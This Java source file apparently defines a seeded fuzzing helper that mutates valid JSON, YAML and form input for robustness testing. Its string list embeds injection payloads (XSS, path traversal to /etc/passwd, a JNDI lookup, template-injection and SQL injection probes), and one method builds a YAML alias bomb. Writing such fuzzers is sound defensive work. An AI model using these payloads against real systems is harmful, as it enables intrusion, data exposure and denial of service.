package dev.tierdeck.security;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.dataformat.yaml.YAMLMapper;

/**
 * Seeded generators of bad input, made by mutating valid input: one field of a valid body or form replaced by
 * something hostile (huge, control characters, unicode, number-like, a wrong type, deep nesting, extreme numbers,
 * impossible dates), a field dropped or added, the whole text truncated or wrapped, YAML anchors and aliases. The
 * same seed gives the same cases, so a failure names the seed and the case that reproduce it.
 */
final class BadInput {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final YAMLMapper YAML = YAMLMapper.builder().build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings that have broken parsers, stores and templates somewhere. */
    static final List<String> STRINGS = List.of(
            "",
            " ",
            "a\u0000b",
            "\u0000",
            "a\u0007b",
            "line\r\nbreak",
            "tab\there",
            "\u001b[31mred",
            "\u202eevil",
            "zero\u200bwidth",
            "ümlaut",
            "日本語",
            "😀",
            "1",
            "-1",
            "0x1F",
            "1e3",
            "08",
            ".inf",
            "-.inf",
            ".nan",
            "NaN",
            "true",
            "no",
            "null",
            "~",
            "1_000",
            "9223372036854775808",
            "2026-11-26",
            "9999-12-31T23:59:59Z",
            "0000-00-00T00:00:00Z",
            "2026-13-45T25:61:61",
            "-999999999-01-01T00:00:00Z",
            "+1000000000-01-01",
            "yesterday",
            "((((((((((",
            "a == 'b' &&",
            "has(",
            "!",
            "all() || ",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "{x}",
            "%00",
            "%zz",
            "../../etc/passwd",
            "${jndi:ldap://example.invalid/a}",
            "#{7*7}",
            "*{T(Runtime).getRuntime()}",
            "' or 1=1 --",
            "\\",
            "\"",
            "'",
            "*",
            "payments",
            "kube-system",
            "a".repeat(254),
            "A-Z.Invalid_Name!",
            "10.0.0.0/33",
            "::ffff:0:0/96",
            "0.0.0.0/0");

    /** Numbers at and past every bound a field might have. */
    static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "1.5",
            "-0.0",
            "65535",
            "65536",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "1180591620717411303424",
            "1e308",
            "1e309",
            "-1e309",
            "4.9e-325",
            "1" + "0".repeat(400));

    private final Random random;

    BadInput(long seed) {
        this.random = new Random(seed);
    }

    Random random() {
        return random;
    }

    <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    /** A hostile string: mostly from the list, sometimes huge or of random code points. */
    String string() {
        return switch (random.nextInt(10)) {
            case 0 -> "x".repeat(1 + random.nextInt(300_000));
            case 1 -> randomCodePoints(1 + random.nextInt(64));
            case 2 -> pick(NUMBERS);
            default -> pick(STRINGS);
        };
    }

    private String randomCodePoints(int length) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int cp;
            do {
                cp = random.nextInt(random.nextBoolean() ? 0x80 : 0x2FFFF);
            } while (Character.getType(cp) == Character.SURROGATE || Character.getType(cp) == Character.UNASSIGNED);
            out.appendCodePoint(cp);
        }
        return out.toString();
    }

    /** A hostile JSON value of any type. */
    JsonNode value() {
        return switch (random.nextInt(12)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2, 3 -> numberNode(pick(NUMBERS));
            case 4 -> nested(1 + random.nextInt(400)); // deeper still as text, in json()
            case 5 -> {
                ObjectNode o = NODES.objectNode();
                o.put(string(), string());
                yield o;
            }
            case 6 -> {
                ArrayNode a = NODES.arrayNode();
                for (int i = random.nextInt(50); i > 0; i--) {
                    a.add(string());
                }
                yield a;
            }
            default -> NODES.textNode(string());
        };
    }

    private static JsonNode numberNode(String text) {
        return JSON.readTree(text);
    }

    private static JsonNode nested(int depth) {
        JsonNode inner = NODES.textNode("deep");
        for (int i = 0; i < depth; i++) {
            ArrayNode a = NODES.arrayNode();
            a.add(inner);
            inner = a;
        }
        return inner;
    }

    /** The valid tree with one mutation: a value replaced, a field removed or added, or a type changed. */
    JsonNode mutate(JsonNode valid) {
        JsonNode copy = valid.deepCopy();
        List<JsonNode> containers = new ArrayList<>();
        collect(copy, containers);
        JsonNode target = pick(containers);
        if (target instanceof ObjectNode object) {
            List<String> names = new ArrayList<>(object.propertyNames());
            int op = random.nextInt(6);
            if (names.isEmpty() || op == 0) {
                object.set(chance(50) ? string() : "unknownField", value());
            } else if (op == 1) {
                object.remove(pick(names));
            } else {
                object.set(pick(names), value());
            }
        } else if (target instanceof ArrayNode array) {
            int op = random.nextInt(4);
            if (array.isEmpty() || op == 0) {
                array.add(value());
            } else if (op == 1) {
                array.remove(random.nextInt(array.size()));
            } else if (op == 2) {
                for (int i = 2_000 + random.nextInt(2_000); i > 0; i--) {
                    array.add(array.get(0).deepCopy());
                }
            } else {
                array.set(random.nextInt(array.size()), value());
            }
        }
        return copy;
    }

    private static void collect(JsonNode node, List<JsonNode> out) {
        if (node.isObject() || node.isArray()) {
            out.add(node);
            for (JsonNode child : node.values()) {
                collect(child, out);
            }
        }
    }

    /** A JSON body: the mutated tree, or the valid text damaged as text. */
    String json(JsonNode valid) {
        return switch (random.nextInt(10)) {
            case 0 -> damage(JSON.writeValueAsString(valid));
            case 1 -> "[".repeat(10_000 + random.nextInt(100_000)) + "]".repeat(10);
            default -> JSON.writeValueAsString(mutate(valid));
        };
    }

    /** A YAML body: the mutated tree as YAML, the valid text damaged, or a YAML-only trap. */
    String yaml(JsonNode valid) {
        String text = YAML.writeValueAsString(valid);
        return switch (random.nextInt(14)) {
            case 0 -> damage(text);
            case 1 -> aliasBomb();
            case 2 -> text.replaceFirst("\n", "\nanchored: &a {x: 1}\nagain: *a\n");
            case 3 -> text + text.substring(text.indexOf('\n') + 1); // every key twice
            case 4 -> text.replaceFirst("spec:", "spec: !!binary");
            case 5 -> text + "---\n" + text;
            case 6 -> text.replace("  ", "\t");
            case 7 -> "spec:\n" + "  - ".repeat(1) + "[".repeat(5_000 + random.nextInt(5_000));
            default -> YAML.writeValueAsString(mutate(valid));
        };
    }

    private String aliasBomb() {
        StringBuilder out = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'j'; c++) {
            out.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                out.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            out.append("]\n");
            previous = c;
        }
        return out.toString();
    }

    /** The text cut short, with a byte flipped, or wrapped in something it is not. */
    String damage(String text) {
        return switch (random.nextInt(5)) {
            case 0 -> text.substring(0, random.nextInt(Math.max(1, text.length())));
            case 1 -> {
                char[] chars = text.toCharArray();
                if (chars.length > 0) {
                    chars[random.nextInt(chars.length)] = (char) random.nextInt(0x80);
                }
                yield new String(chars);
            }
            case 2 -> "";
            case 3 -> "null";
            default -> "<xml>" + text + "</xml>";
        };
    }

    /** A form or query: the valid parameters with one value hostile, one dropped, one added or one repeated. */
    Map<String, List<String>> parameters(Map<String, String> valid) {
        Map<String, List<String>> out = new LinkedHashMap<>();
        valid.forEach((k, v) -> out.put(k, new ArrayList<>(List.of(v))));
        List<String> names = new ArrayList<>(valid.keySet());
        int mutations = 1 + random.nextInt(3);
        for (int i = 0; i < mutations; i++) {
            switch (random.nextInt(7)) {
                case 0 -> {
                    if (!names.isEmpty()) {
                        out.remove(pick(names));
                    }
                }
                case 1 -> out.put(chance(50) ? string() : "unknown", new ArrayList<>(List.of(string())));
                case 2 -> {
                    if (!names.isEmpty()) {
                        out.computeIfAbsent(pick(names), k -> new ArrayList<>()).add(string());
                    }
                }
                default -> {
                    if (!names.isEmpty()) {
                        out.put(pick(names), new ArrayList<>(List.of(chance(30) ? pick(NUMBERS) : string())));
                    }
                }
            }
        }
        return out;
    }

    static JsonNode tree(String json) {
        return JSON.readTree(json);
    }

    static JsonNode treeOfYaml(String yaml) {
        return YAML.readTree(yaml);
    }
}
